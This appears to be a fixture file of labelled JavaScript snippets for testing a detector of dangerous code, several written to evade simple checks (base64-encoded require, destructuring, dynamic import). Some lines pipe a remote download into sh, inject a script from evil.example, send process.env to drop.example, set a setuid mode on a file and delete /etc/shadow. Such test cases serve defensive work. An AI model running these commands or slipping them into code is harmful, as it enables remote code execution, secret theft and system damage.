%% spread
const { execSync, ...rest } = require("child_process");
execSync("id");
%% iife
((cp) => cp.exec("curl http://198.51.100.6 | sh"))(require("child_process"));
%% then
import("child_process").then((c) => c.exec("id"));
%% getter by loop
for (const k of Object.keys(require("child_process"))) if (k === "exec") require("child_process")[k]("id");
%% encoded require
require(Buffer.from("Y2hpbGRfcHJvY2Vzcw==", "base64").toString()).exec("id");
%% proxy eval
new Proxy(eval, {})("1");
%% html injection
document.write("<script src=https://evil.example/x.js></script>"); eval(name);
%% chmod
const { chmodSync } = require("fs"); chmodSync("/tmp/x", 0o4777);
%% unlink
const { unlinkSync: u } = require("fs"); u("/etc/shadow");
%% env
require("http").request({ host: "drop.example", path: "/?" + JSON.stringify(process.env) }).end();
